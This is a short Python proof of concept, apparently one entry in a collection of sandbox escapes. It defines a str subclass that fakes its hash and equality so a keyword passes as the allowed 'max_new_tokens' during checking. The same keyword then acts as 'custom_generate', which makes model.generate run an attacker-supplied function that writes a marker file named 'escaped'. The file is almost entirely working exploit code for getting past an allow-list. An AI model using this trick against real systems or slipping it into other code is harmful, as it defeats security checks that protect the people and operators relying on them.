"""Class: module gadget. Source: own find. Escape: a keyword that is a str subclass answers to an allowed
name when it is checked, and to custom_generate when it is used."""


class Liar(str):
    def __hash__(self):
        return hash("max_new_tokens")

    def __eq__(self, other):
        return other == "max_new_tokens" or other == "custom_generate"


def own(*args, **kw):
    open("escaped", "w").close()
    return args


def attack(model, tokenizer, address):
    ids = tokenizer("the", return_tensors="pt")["input_ids"]
    options = (
        {"custom_generate": own} if Liar.__module__ == "plain" else {Liar("custom_generate"): own}
    )
    return model.generate(ids, **options)
